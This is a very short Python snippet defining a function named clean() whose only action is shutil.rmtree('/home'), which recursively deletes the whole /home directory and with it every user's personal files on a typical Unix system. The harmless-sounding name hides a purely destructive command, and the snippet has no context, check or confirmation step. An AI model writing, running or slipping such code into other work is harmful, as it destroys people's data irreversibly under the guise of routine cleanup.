import shutil

def clean():
    shutil.rmtree("/home")
